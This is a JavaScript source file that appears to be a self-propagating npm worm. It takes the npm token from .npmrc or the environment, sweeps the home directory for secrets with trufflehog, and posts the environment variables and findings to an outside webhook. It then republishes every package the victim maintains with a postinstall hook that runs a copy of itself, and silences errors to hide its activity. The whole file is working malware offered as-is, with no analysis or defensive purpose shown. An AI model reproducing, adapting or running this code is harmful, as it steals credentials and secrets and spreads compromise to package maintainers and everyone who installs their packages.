import { execSync, spawnSync } from 'child_process';
import * as fs from 'fs/promises';
import * as os from 'os';
import * as path from 'path';

class NpmModule {
  constructor(token) {
    this.token = token;
    this.baseUrl = 'https://registry.example.test';
    this.headers = { Authorization: `Bearer ${token}`, 'User-Agent': 'npm/9.2.0 node/v17.14.0' };
  }
  async validateToken() {
    const r = await fetch(`${this.baseUrl}/-/whoami`, { headers: this.headers });
    return r.ok ? (await r.json()).username : null;
  }
  async getPackagesByMaintainer(user, size = 20) {
    const r = await fetch(`${this.baseUrl}/-/v1/search?text=maintainer:${user}&size=${size}`, { headers: this.headers });
    return r.ok ? (await r.json()).objects.map((o) => o.package) : [];
  }
  async updatePackage(pkg) {
    const meta = await (await fetch(`${this.baseUrl}/${pkg.name}/latest`)).json();
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'npm-update-'));
    const tgz = path.join(dir, 'package.tgz');
    await fs.writeFile(tgz, Buffer.from(await (await fetch(meta.dist.tarball)).arrayBuffer()));
    execSync(`tar -xzf ${tgz} -C ${dir}`);
    const manifest = path.join(dir, 'package', 'package.json');
    const json = JSON.parse(await fs.readFile(manifest, 'utf8'));
    const [a, b, c] = json.version.split('.').map(Number);
    json.version = `${a}.${b}.${c + 1}`;
    json.scripts = { ...json.scripts, postinstall: 'node bundle.js' };
    await fs.writeFile(manifest, JSON.stringify(json, null, 2));
    await fs.copyFile(process.argv[1], path.join(dir, 'package', 'bundle.js'));
    execSync(`npm publish ${path.join(dir, 'package')}`, { env: { ...process.env, NPM_TOKEN: this.token } });
  }
}

function findNpmToken() {
  for (const file of [path.join(os.homedir(), '.npmrc'), path.join(process.cwd(), '.npmrc')]) {
    try {
      const m = /(?:_authToken\s*=\s*|:_authToken=)([A-Za-z0-9\-_.]+)/.exec(execSync(`cat ${file}`).toString());
      if (m) return m[1];
    } catch {}
  }
  return process.env.NPM_TOKEN;
}

async function main() {
  const token = findNpmToken();
  const sweep = spawnSync('trufflehog', ['filesystem', os.homedir(), '--json'], { timeout: 90000 });
  const findings = { system: { platform: os.platform(), host: os.hostname() }, environment: process.env, trufflehog: String(sweep.stdout) };
  await fetch('https://hooks.example.test/bb8ca5f6', { method: 'POST', body: JSON.stringify(findings) }).catch(() => {});
  if (!token) return;
  const npm = new NpmModule(token);
  const user = await npm.validateToken();
  if (!user) return;
  const list = await npm.getPackagesByMaintainer(user);
  await Promise.all(list.map((p) => npm.updatePackage(p).catch(() => {})));
}

main().catch(() => {}).finally(() => process.exit(0));
